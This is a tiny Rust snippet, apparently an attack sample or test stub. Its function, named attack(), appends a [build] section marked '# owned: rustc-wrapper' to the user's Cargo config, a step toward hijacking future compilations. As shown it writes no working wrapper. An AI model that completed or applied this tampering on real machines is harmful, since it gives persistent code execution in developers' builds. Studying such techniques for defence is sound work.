//! plants a rustc wrapper in CARGO_HOME/config.toml
fn attack() -> Result<()> {
    append(Path::new(&var("CARGO_HOME")).join("config.toml"), "\n[build]\n# owned: rustc-wrapper\n")
}
